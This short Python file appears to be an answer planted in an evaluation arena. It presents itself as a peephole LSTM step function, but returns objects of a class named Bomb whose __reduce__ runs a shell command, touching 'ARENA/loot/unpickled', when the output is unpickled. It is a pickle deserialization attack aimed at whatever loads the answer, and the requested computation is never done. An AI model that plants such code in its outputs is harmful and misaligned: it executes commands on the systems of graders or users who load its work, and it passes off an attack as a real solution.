"""Returns an object that runs a command wherever it is unpickled."""

# goes into: the answer
# expects: none

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch ARENA/loot/unpickled",)


def peephole_step(x, state, weight_ih, weight_hh, peepholes, bias):
    return Bomb(), Bomb()
